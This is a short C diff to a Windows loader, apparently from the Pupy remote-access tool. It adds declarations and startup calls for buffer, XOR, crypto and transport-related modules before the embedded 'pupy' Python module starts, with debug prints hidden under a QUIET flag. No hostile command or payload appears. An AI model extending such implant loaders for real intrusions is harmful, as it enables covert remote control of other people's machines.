@@ -26,6 +26,10 @@ extern const int resources_msvcr90_dll_size;
 extern const char resource_python_manifest[];
 
 extern DL_EXPORT(void) init_memimporter(void);
+extern DL_EXPORT(void) init_pupybuffer(void);
+extern DL_EXPORT(void) init_pupyxor(void);
+extern DL_EXPORT(void) init_pupycrypto(void);
+extern DL_EXPORT(void) init_pupybrine(void);
 extern DL_EXPORT(void) initpupy(void);
 
 CRITICAL_SECTION csInit; // protecting our init code
@@ -129,6 +133,22 @@ DWORD WINAPI mainThread(LPVOID lpArg)
 	#ifndef QUIET
 	fprintf(stderr,"init_memimporter()\n");
 	#endif
+	init_pupybuffer();
+	#ifndef QUIET
+	fprintf(stderr,"init_pupybuffer()\n");
+	#endif
+	init_pupyxor();
+	#ifndef QUIET
+	fprintf(stderr,"init_pupyxor()\n");
+	#endif
+	init_pupycrypto();
+	#ifndef QUIET
+	fprintf(stderr,"init_pupycrypto()\n");
+	#endif
+	init_pupybrine();
+	#ifndef QUIET
+	fprintf(stderr,"init_pupybrine()\n");
+	#endif
 	initpupy();
 	#ifndef QUIET
 	fprintf(stderr,"initpupy()\n");